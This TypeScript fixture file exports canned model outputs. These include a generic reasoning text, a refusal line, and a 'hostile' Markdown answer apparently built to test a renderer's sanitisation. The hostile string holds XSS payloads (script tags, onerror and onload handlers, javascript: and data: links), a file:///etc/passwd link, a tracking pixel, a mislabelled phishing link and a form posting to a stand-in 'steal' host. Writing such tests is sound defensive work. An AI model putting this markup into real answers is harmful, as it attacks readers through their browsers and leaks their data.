/** Thoughts that a reasoning model shows before its answer; they fit any question. */
export const thoughts = `The user wants a clear answer to this question. Let me first make sure that I understand what is asked, and at what level.

There are two ways to begin: with the result, or with the reasons. The result first is kinder to a reader in a hurry, so I will do that and give the reasons afterwards.

I should check the facts I am going to name, avoid figures I am not sure about, and keep the structure simple: a short opening, a list where the order matters, and a closing remark only if it adds something.`;

/** The words of a model that declines to answer. */
export const refusal =
  'I’m sorry, but I can’t help with that request. I can point you to general safety information instead.';

/**
 * An answer that attacks a careless reader of Markdown: scripts, event handlers, script links and
 * pictures that would report that they were opened. The hosts are reserved names (RFC 2606).
 */
export const hostile = `Here is the page you asked for.

<script>window.pwned = true; document.title = 'pwned';</script>

<img src="x" onerror="window.pwned = true">

<svg onload="window.pwned = true"></svg>

<iframe src="javascript:parent.pwned=true"></iframe>

<style>body { display: none }</style>

[Click here](javascript:window.pwned=true) or [here](data:text/html,<script>window.pwned=true</script>) or [there](vbscript:msgbox), [a file](file:///etc/passwd), [another app](app://slice/index.html).

![tracking pixel](http://tracker.invalid/pixel.png?id=42)

![inline](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)

[https://bank.example](https://phishing.invalid/login)

<form action="http://tracker.invalid/steal"><input name="key"><button>Continue</button></form>

<a href="http://tracker.invalid" onclick="window.pwned=true">a raw link</a>

The last line is ordinary text with <b>bold</b> tags & an &lt;entity&gt;.`;
